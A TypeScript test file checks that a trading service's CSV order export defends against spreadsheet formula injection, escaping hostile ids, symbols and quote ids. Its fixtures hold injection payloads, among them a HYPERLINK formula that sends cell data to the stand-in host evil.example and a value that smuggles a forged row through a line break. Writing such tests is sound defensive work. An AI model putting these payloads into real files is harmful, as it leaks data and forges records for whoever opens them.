import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVERY_ACCOUNT } from '../../src/db/index.js';
import { Decimal } from '../../src/money.js';
import { exportOrders } from '../../src/reports/index.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';

/**
 * The ledger opened in a spreadsheet: a text the service sent (an order id, a symbol, a quote id) that begins
 * like a formula is written with a leading apostrophe, and its control characters escaped, so that opening
 * the file runs nothing and shows one row per order. Money is ours (decimal text we formatted from a
 * `Decimal`) and stays a number, negative or not.
 */
describe('the CSV export against formula injection', () => {
  let test: TestDatabase;

  beforeAll(async () => {
    test = await createTestDatabase();
    await test.database.orders.recordExternal({
      account: 'default',
      id: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      symbol: '+SUM(1)',
      amount: new Decimal('-100.5'),
      price: new Decimal('5.1'),
      side: 'BUY',
      timestamp: new Date('2026-05-01T12:00:00Z'),
      quoteId: '@cmd\r\nforged,row',
    });
    await test.database.orders.recordExternal({
      account: 'default',
      id: '-2+3',
      symbol: 'USDTBRL',
      amount: new Decimal('100'),
      price: new Decimal('5.1'),
      side: 'BUY',
      timestamp: new Date('2026-05-01T12:01:00Z'),
    });
  });
  afterAll(() => test?.drop());

  it('neutralises texts from the service and keeps our decimals as numbers', async () => {
    const chunks: string[] = [];
    const out = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(String(chunk));
        done();
      },
    });
    const range = { start: new Date('2026-05-01T00:00:00Z'), end: new Date('2026-06-01T00:00:00Z') };
    await exportOrders(test.database, range, out, { format: 'csv', scope: EVERY_ACCOUNT });
    const text = chunks.join('');
    // One line per order after the header: no line break inside a field.
    expect(text.split('\r\n').filter((line) => line !== '')).toHaveLength(3);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.orderId, row.symbol, row.quoteId, row.amount])).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+SUM(1)", "'@cmd\\r\\nforged,row", '-100.50'],
      ["'-2+3", 'USDTBRL', '', '100.00'],
    ]);
  });
});
